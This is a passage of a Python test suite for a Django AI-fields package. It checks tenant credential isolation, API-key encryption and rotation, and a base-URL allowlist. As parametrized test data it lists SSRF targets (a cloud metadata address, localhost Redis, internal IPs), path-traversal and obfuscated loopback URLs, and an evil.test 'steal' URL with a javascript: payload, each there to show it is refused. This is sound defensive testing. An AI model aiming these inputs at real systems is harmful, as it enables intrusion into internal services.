"""Security review (issue 10): tenant credentials are used whole, encrypted by every
write path and limited to TENANT_BASE_URLS; the smaller findings of the same review.
docs/security.md lists these attacks with their outcomes."""

from __future__ import annotations

import json
import threading
from decimal import Decimal

import pytest
from cryptography.fernet import Fernet
from django.core.management import call_command
from django.db import connection
from django.test import Client

from django_ai_fields import crypto
from django_ai_fields.models import AIJob, AIUsage, ProviderBatch, ProviderCredential, Quota
from tests.surfaces import TENANT_FOR_USER, make_user
from tests.testapp.models import Product

pytestmark = pytest.mark.django_db(transaction=True)

CREDENTIALS = "/admin/django_ai_fields/providercredential/"


def raw_keys() -> list[str]:
    """The api_key column as stored, around the ORM."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT api_key FROM django_ai_fields_providercredential ORDER BY id")
        return [row[0] for row in cursor.fetchall()]


def write_raw_key(pk: int, stored: str) -> None:
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE django_ai_fields_providercredential SET api_key = %s WHERE id = %s",
            [stored, pk],
        )


def tenant_client(username: str = "acme-ann") -> Client:
    client = Client()
    client.force_login(
        make_user(
            username,
            "django_ai_fields.add_providercredential",
            "django_ai_fields.change_providercredential",
            "django_ai_fields.view_providercredential",
        )
    )
    return client


@pytest.fixture
def two_tenants(fake_provider, settings):
    """Products resolve to their shop; users to the prefix of their name."""
    settings.AI_FIELDS = {
        **settings.AI_FIELDS,
        "TENANT_RESOLVER": "tests.testapp.tenancy.product_tenant",
        "TENANT_FOR_USER": TENANT_FOR_USER,
    }
    return fake_provider


def tenant_url(fake_provider) -> str:
    """The fake server under another host name: requests to it are the tenant's."""
    return f"http://localhost:{fake_provider.port}/v1"


def requests_to_tenant_host(fake_provider) -> list:
    return [r for r in fake_provider.requests if r.headers.get("host", "").startswith("localhost")]


# -- 1. a credential is used whole ----------------------------------------------------------


def test_a_tenant_admin_cannot_lure_the_operator_key_to_its_own_server(
    two_tenants, settings, worker
):
    url = tenant_url(two_tenants)
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": [url]}
    response = tenant_client().post(
        f"{CREDENTIALS}add/", {"provider": "openai", "base_url": url, "new_api_key": ""}
    )
    assert response.status_code == 302, response.content.decode()
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()

    leaked = [r for r in two_tenants.requests if "sk-test-openai" in str(r.headers)]
    assert leaked == []
    job = AIJob.objects.get()
    assert (job.status, job.error_code) == ("failed", "auth")
    assert "'acme'" in job.error and "'openai'" in job.error
    assert "sk-test-openai" not in job.error


def test_a_tenant_key_goes_to_the_tenant_url_and_the_operator_key_only_to_its_own(
    two_tenants, worker
):
    ProviderCredential.objects.create(
        tenant="acme", provider="openai", api_key="sk-acme", base_url=tenant_url(two_tenants)
    )
    Product.objects.create(shop="acme", title="Anvil", price=10)
    Product.objects.create(shop="globex", title="Globe", price=20)
    worker.drain()
    seen = {
        (r.headers["host"].split(":")[0], r.headers["authorization"])
        for r in two_tenants.provider_requests
    }
    assert seen == {("localhost", "Bearer sk-acme"), ("127.0.0.1", "Bearer sk-test-openai")}


def test_a_fallback_route_never_sends_the_operator_key_to_a_tenant_url(
    two_tenants, settings, worker
):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "MAX_ATTEMPTS": 1, "FALLBACK": ["anthropic"]}
    ProviderCredential.objects.create(
        tenant="acme", provider="anthropic", base_url=f"http://localhost:{two_tenants.port}"
    )
    two_tenants.enqueue_fault(status=500)  # the primary's only attempt fails
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    assert requests_to_tenant_host(two_tenants) == []
    job = AIJob.objects.get()
    assert job.status == "failed"


def test_a_chunked_backfill_never_sends_the_operator_key_to_a_tenant_url(two_tenants):
    from django_ai_fields.api import regenerate

    ProviderCredential.objects.create(
        tenant="acme", provider="openai", base_url=tenant_url(two_tenants)
    )
    Product.objects.bulk_create([Product(shop="acme", title=f"P{i}") for i in range(3)])
    jobs = regenerate(Product.objects.all(), "tagline", sync=True)
    assert {(job.status, job.error_code) for job in jobs} == {("failed", "auth")}
    assert requests_to_tenant_host(two_tenants) == []


def test_a_batch_poll_never_sends_the_operator_key_to_a_tenant_url(two_tenants, settings):
    import io

    from django_ai_fields.jobs.batches import poll
    from tests.reliability_support import make_lead

    settings.AI_FIELDS = {
        **settings.AI_FIELDS,
        "TENANT_RESOLVER": "tests.testapp.tenancy.lead_tenant",
    }
    credential = ProviderCredential.objects.create(
        tenant="acme", provider="openai", api_key="sk-acme", base_url=two_tenants.openai_base_url
    )
    make_lead(company="acme")
    call_command(
        "ai_regenerate", "testapp.Lead", "--batch", "--field", "summary", stdout=io.StringIO()
    )
    assert AIJob.objects.get().batch_id
    # Afterwards a tenant admin clears the key and points the row at its own server.
    credential.api_key, credential.base_url = "", tenant_url(two_tenants)
    credential.save()
    poll()
    assert requests_to_tenant_host(two_tenants) == []
    assert not [r for r in two_tenants.requests if "sk-test-openai" in str(r.headers)]


# -- 2. api_key is encrypted by every write path ---------------------------------------------


def _assert_stored_encrypted(*plaintexts: str) -> None:
    stored = raw_keys()
    assert len(stored) == len(plaintexts)
    for token, plaintext in zip(stored, plaintexts, strict=True):
        assert plaintext not in token
        assert crypto.decrypt(token) == plaintext
    values = sorted(str(c.api_key) for c in ProviderCredential.objects.all())
    assert values == sorted(plaintexts)


def test_assigning_and_saving_encrypts():
    credential = ProviderCredential(tenant="acme", provider="openai")
    credential.api_key = "sk-assigned"
    credential.save()
    _assert_stored_encrypted("sk-assigned")
    assert credential.get_api_key() == "sk-assigned"


def test_objects_create_encrypts():
    ProviderCredential.objects.create(tenant="acme", provider="openai", api_key="sk-created")
    _assert_stored_encrypted("sk-created")


def test_bulk_create_encrypts():
    ProviderCredential.objects.bulk_create(
        [
            ProviderCredential(tenant="acme", provider="openai", api_key="sk-bulk-1"),
            ProviderCredential(tenant="globex", provider="openai", api_key="sk-bulk-2"),
        ]
    )
    _assert_stored_encrypted("sk-bulk-1", "sk-bulk-2")


def test_update_or_create_encrypts():
    ProviderCredential.objects.update_or_create(
        tenant="acme", provider="openai", defaults={"api_key": "sk-first"}
    )
    ProviderCredential.objects.update_or_create(
        tenant="acme", provider="openai", defaults={"api_key": "sk-second"}
    )
    _assert_stored_encrypted("sk-second")


def test_queryset_update_encrypts():
    ProviderCredential.objects.create(tenant="acme", provider="openai", api_key="sk-old")
    ProviderCredential.objects.filter(tenant="acme").update(api_key="sk-updated")
    _assert_stored_encrypted("sk-updated")


def test_set_api_key_still_works_and_does_not_encrypt_twice():
    credential = ProviderCredential(tenant="acme", provider="openai")
    credential.set_api_key("sk-compat")
    credential.save()
    old_style = ProviderCredential(tenant="globex", provider="openai")
    old_style.api_key = crypto.encrypt("sk-already-a-token")  # what callers did before
    old_style.save()
    _assert_stored_encrypted("sk-compat", "sk-already-a-token")


def test_the_admin_encrypts():
    client = Client()
    client.force_login(make_user("root", superuser=True))
    response = client.post(
        f"{CREDENTIALS}add/", {"tenant": "acme", "provider": "openai", "new_api_key": "sk-admin"}
    )
    assert response.status_code == 302
    _assert_stored_encrypted("sk-admin")


def test_loaddata_encrypts_plaintext_and_keeps_dumped_tokens(tmp_path):
    fixture = tmp_path / "credentials.json"
    fixture.write_text(
        json.dumps(
            [
                {
                    "model": "django_ai_fields.providercredential",
                    "pk": 1,
                    "fields": {
                        "tenant": "acme",
                        "provider": "openai",
                        "api_key": "sk-fixture",
                        "created_at": "2026-01-01T00:00:00Z",
                        "updated_at": "2026-01-01T00:00:00Z",
                    },
                }
            ]
        )
    )
    call_command("loaddata", str(fixture), verbosity=0)
    _assert_stored_encrypted("sk-fixture")

    dumped = tmp_path / "dumped.json"
    call_command("dumpdata", "django_ai_fields.providercredential", output=str(dumped))
    assert "sk-fixture" not in dumped.read_text()  # dumpdata writes the token
    ProviderCredential.objects.all().delete()
    call_command("loaddata", str(dumped), verbosity=0)
    _assert_stored_encrypted("sk-fixture")  # loaded back once, not encrypted twice


def test_import_export_encrypts():
    from import_export import resources
    from tablib import Dataset

    class CredentialResource(resources.ModelResource):
        class Meta:
            model = ProviderCredential
            fields = ("id", "tenant", "provider", "api_key")

    data = Dataset(headers=["id", "tenant", "provider", "api_key"])
    data.append(["", "acme", "openai", "sk-imported"])
    result = CredentialResource().import_data(data, raise_errors=True)
    assert not result.has_errors()
    _assert_stored_encrypted("sk-imported")


def test_the_migration_encrypts_plaintext_rows_and_leaves_tokens():
    import importlib

    migration = importlib.import_module("django_ai_fields.migrations.0003_credential_encryption")
    plain = ProviderCredential.objects.create(tenant="acme", provider="openai")
    token = ProviderCredential.objects.create(tenant="globex", provider="openai", api_key="sk-t")
    write_raw_key(plain.pk, "sk-legacy-plaintext")
    stored_token = raw_keys()[1]

    class Editor:
        connection = connection

    migration.encrypt_plaintext_keys(None, Editor())
    stored = raw_keys()
    assert crypto.decrypt(stored[0]) == "sk-legacy-plaintext"
    assert stored[1] == stored_token
    assert token.pk


# -- undecryptable rows ------------------------------------------------------------------------


def test_a_plaintext_row_fails_auth_naming_the_row_and_the_cause(two_tenants, worker):
    credential = ProviderCredential.objects.create(tenant="acme", provider="openai")
    write_raw_key(credential.pk, "sk-written-around-the-field")
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    job = AIJob.objects.get()
    assert (job.status, job.error_code) == ("failed", "auth")
    assert f"#{credential.pk}" in job.error and "plaintext" in job.error
    assert "sk-written-around-the-field" not in job.error
    assert two_tenants.calls == 0


def test_ai_status_lists_rows_that_cannot_be_decrypted(settings, capsys):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "ENCRYPTION_KEY": Fernet.generate_key().decode()}
    lost = ProviderCredential.objects.create(tenant="acme", provider="openai", api_key="sk-a")
    settings.AI_FIELDS = {**settings.AI_FIELDS, "ENCRYPTION_KEY": Fernet.generate_key().decode()}
    fine = ProviderCredential.objects.create(tenant="globex", provider="openai", api_key="sk-b")
    from django_ai_fields.management.commands.ai_status import collect, render

    report = collect(check_providers=False)
    assert [row["id"] for row in report["unreadable_credentials"]] == [lost.pk]
    assert "ENCRYPTION_KEY" in report["unreadable_credentials"][0]["cause"]
    text = "\n".join(render(report))
    assert f"#{lost.pk} tenant 'acme'" in text and f"#{fine.pk}" not in text


# -- rotation ------------------------------------------------------------------------------------


def test_ai_rotate_keys_re_encrypts_with_the_newest_key(settings):
    old, new = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    settings.AI_FIELDS = {**settings.AI_FIELDS, "ENCRYPTION_KEY": old}
    ProviderCredential.objects.create(tenant="acme", provider="openai", api_key="sk-rotate")
    settings.AI_FIELDS = {**settings.AI_FIELDS, "ENCRYPTION_KEY": [new, old]}
    assert str(ProviderCredential.objects.get().api_key) == "sk-rotate"  # old key still reads
    assert Fernet(old.encode()).decrypt(raw_keys()[0].encode()) == b"sk-rotate"

    call_command("ai_rotate_keys", verbosity=0)
    assert Fernet(new.encode()).decrypt(raw_keys()[0].encode()) == b"sk-rotate"
    settings.AI_FIELDS = {**settings.AI_FIELDS, "ENCRYPTION_KEY": [new]}
    assert str(ProviderCredential.objects.get().api_key) == "sk-rotate"


def test_ai_rotate_keys_reports_rows_no_key_opens(settings):
    from django.core.management.base import CommandError

    settings.AI_FIELDS = {**settings.AI_FIELDS, "ENCRYPTION_KEY": Fernet.generate_key().decode()}
    lost = ProviderCredential.objects.create(tenant="acme", provider="openai", api_key="sk-x")
    before = raw_keys()
    settings.AI_FIELDS = {**settings.AI_FIELDS, "ENCRYPTION_KEY": Fernet.generate_key().decode()}
    with pytest.raises(CommandError, match="could not be decrypted"):
        call_command("ai_rotate_keys", verbosity=0)
    assert raw_keys() == before  # left untouched
    assert lost.pk


# -- 3. tenant base URLs only from the allowlist -------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/",
        "http://localhost:6379/",
        "http://[::1]:6379/",
        "http://10.0.0.5/v1",
        "http://127.0.0.1:8000/v1",
        "https://llm.example.com.evil.net/v1",
    ],
)
def test_the_admin_refuses_internal_and_unlisted_urls_for_a_tenant_user(two_tenants, settings, url):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": ["https://llm.example.com/v1"]}
    response = tenant_client().post(
        f"{CREDENTIALS}add/", {"provider": "openai", "base_url": url, "new_api_key": "sk-acme"}
    )
    assert response.status_code == 200
    assert "This base URL is not allowed" in response.content.decode()
    assert not ProviderCredential.objects.exists()


def test_without_an_allowlist_a_tenant_user_may_not_set_a_base_url(two_tenants):
    response = tenant_client().post(
        f"{CREDENTIALS}add/",
        {"provider": "openai", "base_url": "https://api.openai.com/v1", "new_api_key": "sk-a"},
    )
    assert "Only the operator may set a base URL" in response.content.decode()
    assert not ProviderCredential.objects.exists()


def test_the_admin_accepts_an_allowlisted_url_and_flags_it(two_tenants, settings):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": ["https://llm.example.com/v1"]}
    response = tenant_client().post(
        f"{CREDENTIALS}add/",
        {"provider": "openai", "base_url": "https://llm.example.com/v1/", "new_api_key": "sk-a"},
    )
    assert response.status_code == 302
    credential = ProviderCredential.objects.get()
    assert (credential.tenant, credential.base_url_from_tenant) == ("acme", True)


def test_a_superuser_may_set_any_url(two_tenants):
    client = Client()
    client.force_login(make_user("root", superuser=True))
    response = client.post(
        f"{CREDENTIALS}add/",
        {"tenant": "acme", "provider": "openai", "base_url": "http://10.0.0.5/v1"},
    )
    assert response.status_code == 302
    assert ProviderCredential.objects.get().base_url_from_tenant is False


def test_a_tenant_url_off_the_list_is_refused_at_call_time(two_tenants, settings, worker):
    """The operator removed the prefix after the tenant saved the row: nothing is sent."""
    ProviderCredential.objects.create(
        tenant="acme",
        provider="openai",
        api_key="sk-acme",
        base_url=tenant_url(two_tenants),
        base_url_from_tenant=True,
    )
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    job = AIJob.objects.get()
    assert (job.status, job.error_code) == ("failed", "auth")
    assert "TENANT_BASE_URLS" in job.error
    assert two_tenants.requests == []


def test_a_system_check_warns_about_internal_tenant_urls(settings):
    from django.core import checks

    ProviderCredential.objects.create(
        tenant="acme", provider="openai", api_key="k", base_url="http://169.254.169.254/latest/"
    )
    ProviderCredential.objects.create(
        tenant="globex", provider="openai", api_key="k", base_url="https://api.openai.com/v1"
    )
    warnings = [
        m for m in checks.run_checks(databases=["default"]) if m.id == "django_ai_fields.W020"
    ]
    assert len(warnings) == 1 and "'acme'" in warnings[0].msg
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": ["http://169.254.169.254/"]}
    assert not [
        m for m in checks.run_checks(databases=["default"]) if m.id == "django_ai_fields.W020"
    ]


# -- 4. smaller findings -----------------------------------------------------------------------


def test_a_second_credential_for_the_same_provider_is_a_form_error(two_tenants):
    client = tenant_client()
    form = {"provider": "openai", "new_api_key": "sk-acme"}
    assert client.post(f"{CREDENTIALS}add/", form).status_code == 302
    response = client.post(f"{CREDENTIALS}add/", form)
    assert response.status_code == 200
    assert "already has a credential for this provider" in response.content.decode()
    assert ProviderCredential.objects.count() == 1


def test_a_usage_window_at_the_end_of_the_calendar_is_a_400_json_error():
    client = Client()
    client.force_login(make_user("root", superuser=True))
    for query in ("until=9999-12-31", "since=0001-01-01&until=0001-01-02", "until=0001-01-05"):
        response = client.get(f"/ai/analytics/usage/?{query}")
        assert response.status_code == 400, query
        assert response["Content-Type"] == "application/json"
        assert response.json()["error"]["code"] == "invalid_parameter"


def test_manual_retries_of_one_job_are_bounded_with_a_429(fake_provider, settings, worker):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "RETRY_COOLDOWN": 0, "MAX_RETRIES_PER_HOUR": 3}
    fake_provider.fail_all_with = 401  # fails at once, every time
    Product.objects.create(title="Lamp", price=5)
    worker.drain()
    job = AIJob.objects.get()
    client = Client()
    client.force_login(make_user("root", superuser=True))
    statuses = []
    for _ in range(5):
        statuses.append(client.post(f"/ai/jobs/{job.pk}/retry/").status_code)
        worker.drain()
    assert statuses == [200, 200, 200, 429, 429]
    response = client.post(f"/ai/jobs/{job.pk}/retry/")
    assert response.json()["error"]["code"] == "retry_limited"
    assert int(response["Retry-After"]) > 0
    assert fake_provider.calls == 4  # the first run and three retries, no more


def test_a_second_manual_retry_within_the_cooldown_is_refused(fake_provider, settings, worker):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "RETRY_COOLDOWN": 60}
    fake_provider.fail_all_with = 401
    Product.objects.create(title="Lamp", price=5)
    worker.drain()
    job = AIJob.objects.get()
    client = Client()
    client.force_login(make_user("root", superuser=True))
    assert client.post(f"/ai/jobs/{job.pk}/retry/").status_code == 200
    worker.drain()
    response = client.post(f"/ai/jobs/{job.pk}/retry/")
    assert (response.status_code, response.json()["error"]["code"]) == (429, "retry_limited")


def test_a_huge_answer_ends_invalid_output_and_nothing_huge_is_stored(fake_provider, worker):
    from tests.testapp.models import Lead

    fake_provider.reply_text = "hot " * 1_250_000  # 5 MB, to a text, a choice and a JSON field
    lead = Lead.objects.create(name="Ada", notes="big")
    worker.drain()
    jobs = list(AIJob.objects.order_by("field_name"))
    assert [(j.field_name, j.status, j.error_code) for j in jobs] == [
        ("heat", "failed", "invalid_output"),
        ("profile", "failed", "invalid_output"),
        ("summary", "failed", "invalid_output"),
    ]
    assert all("MAX_OUTPUT_CHARS" in j.error for j in jobs)
    assert all(len(j.output or "") <= 100_000 for j in jobs)
    assert fake_provider.calls == 3  # no repair call for an oversized answer
    lead.refresh_from_db()
    assert (lead.summary, lead.heat, lead.profile) == (None, None, None)


def test_deeply_nested_json_is_invalid_output_not_a_crash(fake_provider, settings, worker):
    from tests.testapp.models import Lead

    settings.AI_FIELDS = {**settings.AI_FIELDS, "OUTPUT_REPAIR": False}
    fake_provider.reply_text = "[" * 50_000
    Lead.objects.create(name="Ada", notes="deep")
    worker.drain()
    job = AIJob.objects.get(field_name="profile")
    assert (job.status, job.error_code) == ("failed", "invalid_output")
    assert "MAX_OUTPUT_DEPTH" in job.error


def test_a_long_choice_answer_is_not_fuzzy_matched(monkeypatch):
    """A 400,000-character answer is refused by its length alone: never compared
    character by character (difflib on it took about 2 s of worker CPU)."""
    import difflib

    from django_ai_fields.declare.outputs import close_choice

    compared: list[int] = []
    real_matcher = difflib.SequenceMatcher

    def counting_matcher(*args, **kwargs):  # type: ignore[no-untyped-def]
        compared.append(len(args[1]))
        return real_matcher(*args, **kwargs)

    monkeypatch.setattr(difflib, "SequenceMatcher", counting_matcher)
    choices = [("hot", "Hot"), ("warm", "Warm"), ("cold", "Cold")]
    assert close_choice("hott", choices) == "hot"
    assert compared  # a short answer is compared
    compared.clear()
    assert close_choice("hot " * 100_000, choices) is None
    assert compared == []


def test_regenerate_refuses_rows_of_another_tenant(settings):
    from django.contrib.messages import get_messages

    from tests.testapp.models import Lead

    settings.AI_FIELDS = {
        **settings.AI_FIELDS,
        "TENANT_RESOLVER": "tests.testapp.tenancy.lead_tenant",
        "TENANT_FOR_USER": TENANT_FOR_USER,
    }
    own = Lead.objects.create(name="Ada", company="acme", notes="n")
    other = Lead.objects.create(name="Bob", company="globex", notes="n")
    AIJob.objects.update(status="succeeded")
    client = Client()
    client.force_login(make_user("acme-ann", "testapp.change_lead", "testapp.view_lead"))

    def regenerate(*leads):
        response = client.post(
            "/admin/testapp/lead/",
            {
                "action": "regenerate_ai_fields",
                "_selected_action": [x.pk for x in leads],
                "confirm": "yes",  # past the cost estimate (issue 15)
            },
            follow=True,
        )
        return [str(m) for m in get_messages(response.wsgi_request)]

    messages = regenerate(own, other)
    assert any("belongs to another tenant" in m for m in messages)
    assert not AIJob.objects.filter(triggered_by="admin").exists()
    regenerate(own)
    assert set(AIJob.objects.filter(triggered_by="admin").values_list("tenant", flat=True)) == {
        "acme"
    }


STATUS_JS_HARNESS = r"""
const fs = require("fs");
const fetched = [], inserted = [];
const badge = (url) => ({
  getAttribute: () => url, classList: { contains: () => false }, replaceWith() {},
});
const badges = [
  "https://evil.test/steal", "//evil.test/protocol-relative", "javascript:alert(1)",
  "/ai/status/testapp.lead/1/summary/", "/redirected/",
].map(badge);
global.window = {
  location: { href: "https://app.test/admin/", origin: "https://app.test" },
  setTimeout: (fn) => fn(),
};
global.document = {
  readyState: "complete",
  querySelectorAll: () => badges,
  createElement: () => ({ set innerHTML(html) { inserted.push(html); }, firstElementChild: null }),
};
global.fetch = (url) => {
  fetched.push(url);
  const finalUrl = url.endsWith("/redirected/") ? "https://evil.test/landed" : url;
  return Promise.resolve({ ok: true, url: finalUrl, json: () => Promise.resolve({ html: url }) });
};
eval(fs.readFileSync(process.argv[2], "utf8"));
setTimeout(() => console.log(JSON.stringify({ fetched, inserted })), 50);
"""


@pytest.mark.django_db(transaction=False)
@pytest.mark.skipif(not __import__("shutil").which("node"), reason="needs node")
def test_status_js_fetches_same_origin_status_urls_only(tmp_path):
    import subprocess
    from pathlib import Path

    import django_ai_fields

    script = Path(django_ai_fields.__file__).parent / "static/django_ai_fields/status.js"
    harness = tmp_path / "harness.js"
    harness.write_text(STATUS_JS_HARNESS)
    run = subprocess.run(
        ["node", str(harness), str(script)], capture_output=True, text=True, timeout=30
    )
    assert run.returncode == 0, run.stderr
    result = json.loads(run.stdout)
    assert result["fetched"] == [
        "https://app.test/ai/status/testapp.lead/1/summary/",
        "https://app.test/redirected/",
    ]
    # The answer of a request redirected to another origin is never inserted.
    assert result["inserted"] == ["https://app.test/ai/status/testapp.lead/1/summary/"]


@pytest.mark.parametrize("provider", ["openai", "anthropic"])
def test_a_plain_json_body_to_a_stream_request_is_read_as_a_normal_answer(
    fake_provider, settings, worker, provider
):
    from tests.fake_provider import Usage, anthropic_message, openai_completion
    from tests.testapp.models import Story

    settings.AI_FIELDS = {**settings.AI_FIELDS, "DEFAULT_PROVIDER": provider}
    build = anthropic_message if provider == "anthropic" else openai_completion
    body = build({}, "Once upon a gateway.", Usage(input_tokens=40, output_tokens=9), "stop", 1)
    fake_provider.enqueue_fault(raw_body=json.dumps(body).encode())  # application/json
    story = Story.objects.create(title="LiteLLM")
    worker.drain()
    assert fake_provider.last_request.body["stream"] is True
    story.refresh_from_db()
    assert story.text == "Once upon a gateway."
    usage = AIUsage.objects.get()
    assert (usage.success, usage.input_tokens, usage.output_tokens) == (True, 40, 9)
    assert AIJob.objects.get().output_tokens == 9


def test_ai_rotate_keys_encrypts_plaintext_written_around_the_field(capsys):
    credential = ProviderCredential.objects.create(tenant="acme", provider="openai")
    write_raw_key(credential.pk, "sk-raw-sql")
    call_command("ai_rotate_keys")
    assert "1 plaintext key(s) encrypted" in capsys.readouterr().out
    (stored,) = raw_keys()
    assert "sk-raw-sql" not in stored and crypto.decrypt(stored) == "sk-raw-sql"
    assert str(ProviderCredential.objects.get().api_key) == "sk-raw-sql"


# -- issue 23: low findings 6 (dot segments) and 7 (non-canonical IPv4) -------------------------

DOT_SEGMENT_PATHS = [
    "/v1/../internal",
    "/v1/./../internal",
    "/v1/%2e%2e/internal",
    "/v1/%2E./internal",
    "/v1/%252e%252e/internal",  # encoded twice
    "/v1/..%2finternal",
    "/v1/..;/internal",
]


@pytest.mark.parametrize("path", DOT_SEGMENT_PATHS)
def test_the_admin_refuses_a_tenant_url_with_dot_segments(two_tenants, settings, path):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": ["https://llm.example.com/v1"]}
    response = tenant_client().post(
        f"{CREDENTIALS}add/",
        {"provider": "openai", "base_url": f"https://llm.example.com{path}", "new_api_key": "sk-a"},
    )
    assert response.status_code == 200
    assert "This base URL is not allowed" in response.content.decode()
    assert not ProviderCredential.objects.exists()


def test_a_stored_tenant_url_with_dot_segments_is_refused_at_call_time(
    two_tenants, settings, worker
):
    """Saved before the fix: the SDK resolved the ``..`` and called /internal/...;
    now the job fails ``auth`` and nothing is sent."""
    allowed = tenant_url(two_tenants)  # http://localhost:<port>/v1
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": [allowed]}
    ProviderCredential.objects.create(
        tenant="acme",
        provider="openai",
        api_key="sk-acme",
        base_url=f"{allowed}/../internal",
        base_url_from_tenant=True,
    )
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    assert [r.path for r in two_tenants.requests] == []  # was ["/internal/chat/completions"]
    job = AIJob.objects.get()
    assert (job.status, job.error_code) == ("failed", "auth")


def test_a_dot_inside_a_segment_is_not_a_dot_segment():
    from django_ai_fields.tenants.base_urls import on_allowlist

    prefix = ["https://llm.example.com/v1"]
    assert on_allowlist("https://llm.example.com/v1/models..v2/", prefix)
    assert on_allowlist("https://llm.example.com/v1/.well-known", prefix)
    assert on_allowlist("https://llm.example.com/%76%31/chat", prefix)  # %76%31 is "v1"


NON_CANONICAL_LOOPBACK = [
    "http://2130706433:8000/v1",  # 127.0.0.1 as one number
    "http://127.1:8000/v1",
    "http://0:8000/v1",  # 0.0.0.0, which connects to this host
    "http://0x7f.0.0.1:8000/v1",
    "http://0177.0.0.1:8000/v1",  # octal
    "http://localhost.:8000/v1",
]


@pytest.mark.parametrize("url", NON_CANONICAL_LOOPBACK)
def test_the_system_check_sees_non_canonical_loopback_addresses(settings, url):
    from django.core import checks

    ProviderCredential.objects.create(tenant="acme", provider="openai", api_key="k", base_url=url)

    def w020() -> list[str]:
        messages = checks.run_checks(databases=["default"])
        return [m.msg for m in messages if m.id == "django_ai_fields.W020"]

    (warning,) = w020()
    assert "'acme'" in warning
    # The allowlist reads hosts the same way: the canonical prefix silences it.
    allowed = "http://localhost:8000/" if "localhost" in url else "http://127.0.0.1:8000/"
    if url.startswith("http://0:"):
        allowed = "http://0.0.0.0:8000/"
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": [allowed]}
    assert w020() == []


# -- issue 23, finding 5: provider probes in diagnostics/ ---------------------------------------

DIAGNOSTICS = "/ai/diagnostics/"


def operator_client() -> Client:
    client = Client()
    client.force_login(make_user("root", superuser=True))
    return client


def model_list_requests(fake_provider) -> int:
    return sum(1 for r in fake_provider.requests if r.path == "/v1/models")


@pytest.fixture
def slow_model_lists(fake_provider, settings, monkeypatch):
    """openai and anthropic (TIMEOUT 30 s) answer their model list after 5 s; a
    probe may take 1 s."""
    from django_ai_fields.observability import health

    monkeypatch.setattr(health, "PROBE_TIMEOUT", 1.0)
    fake_provider.models_delay = 5.0
    providers = settings.AI_FIELDS["PROVIDERS"]
    slow = {name: {**providers[name], "TIMEOUT": 30} for name in ("openai", "anthropic")}
    settings.AI_FIELDS = {**settings.AI_FIELDS, "PROVIDERS": slow}
    yield fake_provider
    for thread in threading.enumerate():  # a probe left running must not reach the next test
        if thread.name.startswith("ai-probe"):
            thread.join()


def test_diagnostics_probes_every_provider_at_once_within_the_probe_timeout(slow_model_lists):
    body = operator_client().get(DIAGNOSTICS).json()
    outcome = {p["name"]: (p["ok"], p["detail"].partition(":")[0]) for p in body["providers"]}
    assert outcome == {"openai": (False, "timeout"), "anthropic": (False, "timeout")}
    assert slow_model_lists.max_models_in_flight == 2  # side by side, not one after the other


def test_a_tenant_user_gets_the_last_probes_and_never_starts_one(fake_provider, settings):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_FOR_USER": TENANT_FOR_USER}
    tenant = Client()
    tenant.force_login(make_user("acme-ann", "django_ai_fields.view_aijob"))
    assert tenant.get(DIAGNOSTICS).json()["providers"] is None  # nothing probed yet
    assert model_list_requests(fake_provider) == 0
    live = operator_client().get(DIAGNOSTICS).json()
    assert model_list_requests(fake_provider) == 2  # openai and anthropic (azure has no probe)
    cached = tenant.get(DIAGNOSTICS).json()
    assert cached["providers"] == live["providers"]
    assert cached["providers_checked_at"] == live["providers_checked_at"] is not None
    assert model_list_requests(fake_provider) == 2


def test_probe_results_are_reused_for_a_while(fake_provider):
    operator = operator_client()
    first = operator.get(DIAGNOSTICS).json()["providers"]
    assert operator.get(DIAGNOSTICS).json()["providers"] == first
    assert model_list_requests(fake_provider) == 2


# -- issue 23, finding 1: a batch is read with the credential it was submitted with ---------


def batch_of_two_tenants(two_tenants, settings, batches: int = 1) -> list[AIJob]:
    """Jobs of acme and globex sent with ``ai_regenerate --batch``, in ``batches``
    provider batches (one when both use the operator's settings)."""
    import io

    from tests.reliability_support import make_lead

    resolver = "tests.testapp.tenancy.lead_tenant"
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_RESOLVER": resolver}
    make_lead(company="acme")
    make_lead(company="globex")
    call_command(
        "ai_regenerate", "testapp.Lead", "--batch", "--field", "summary", stdout=io.StringIO()
    )
    jobs = list(AIJob.objects.order_by("pk"))
    assert [job.tenant for job in jobs] == ["acme", "globex"]
    assert len({job.batch_id for job in jobs}) == batches
    return jobs


def test_a_batch_poll_ignores_a_credential_added_after_the_batch_was_sent(two_tenants, settings):
    """A tenant of the batch's first job adds a credential on an allowlisted server
    before the poll: the poll still asks the operator's server, with the operator's
    key, and each result goes to its own job and tenant."""
    from django_ai_fields.jobs.batches import poll

    jobs = batch_of_two_tenants(two_tenants, settings)
    url = tenant_url(two_tenants)
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": [url]}
    ProviderCredential.objects.create(
        tenant="acme", provider="openai", api_key="sk-acme", base_url=url, base_url_from_tenant=True
    )

    poll()

    assert requests_to_tenant_host(two_tenants) == []
    for job in jobs:
        job.refresh_from_db()
        assert (job.status, job.batch_id) == ("succeeded", "")
        assert list(AIUsage.objects.filter(job=job).values_list("tenant", flat=True)) == [
            job.tenant
        ]


def test_a_batch_is_never_read_from_a_server_its_credential_points_at_later(
    two_tenants, settings
):
    """A batch sent with acme's own credential; acme then points the row at another
